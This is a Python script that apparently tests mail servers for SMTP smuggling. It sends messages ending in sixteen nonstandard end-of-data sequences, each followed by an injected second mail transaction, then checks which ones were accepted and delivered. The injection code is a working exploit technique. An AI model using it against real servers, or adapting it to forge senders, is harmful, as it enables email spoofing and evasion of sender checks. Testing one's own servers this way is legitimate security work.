"""SMTP smuggling (2023): what some servers take for the end of the data.

smuggle.py send HOST FROM TO
    sends letters, each with one of the endings in its body and a whole second
    transaction behind it; prints the number of each letter that was taken
smuggle.py found DIR
    prints the subject of each file below DIR, of its header only, a line each
"""
import email.parser
import os
import socket
import sys

ENDINGS = [
    b"\n.\n", b"\n.\r\n", b"\r\n.\n", b"\r\n.\r", b"\r.\r", b"\r.\r\n",
    b"\r\n.\r\r\n", b"\r\r\n.\r\n", b"\r\n\0.\r\n", b"\r\n.\0\r\n", b"\n\n.\r\n",
    # These are no trick: a dot that is doubled, and lines that begin with one.
    b"\r\n..\r\n", b"\r\n...\r\n", b"\r\n..x\r\n", b"\r\n. \r\n", b"\r\n.\t\r\n",
]


def talk(stream, text, want):
    stream.write(text)
    stream.flush()
    line = stream.readline()
    while line[3:4] == b"-":
        line = stream.readline()
    if want and not line.startswith(want):
        sys.exit(f"{text!r}: {line!r}")
    return line


def send(host, sender, to):
    sender, to = sender.encode(), to.encode()
    for number, ending in enumerate(ENDINGS):
        with socket.create_connection((host, 25), 30) as s:
            stream = s.makefile("rwb")
            talk(stream, b"", b"220")
            talk(stream, b"EHLO client.example\r\n", b"250")
            talk(stream, b"MAIL FROM:<%s>\r\n" % sender, b"250")
            talk(stream, b"RCPT TO:<%s>\r\n" % to, b"250")
            talk(stream, b"DATA\r\n", b"354")
            stream.write(b"From: %s\r\nSubject: outer-%d\r\n\r\nbody%s"
                         % (sender, number, ending))
            stream.write(b"MAIL FROM:<%s>\r\nRCPT TO:<%s>\r\nDATA\r\n"
                         b"Subject: smuggled\r\n\r\nbody" % (sender, to))
            if talk(stream, b"\r\n.\r\n", b"").startswith(b"250"):
                print(number)


def found(top):
    for folder, _, names in os.walk(top):
        for name in names:
            with open(os.path.join(folder, name), "rb") as f:
                print(email.parser.BytesHeaderParser().parse(f)["Subject"])


if __name__ == "__main__":
    {"send": send, "found": found}[sys.argv[1]](*sys.argv[2:])
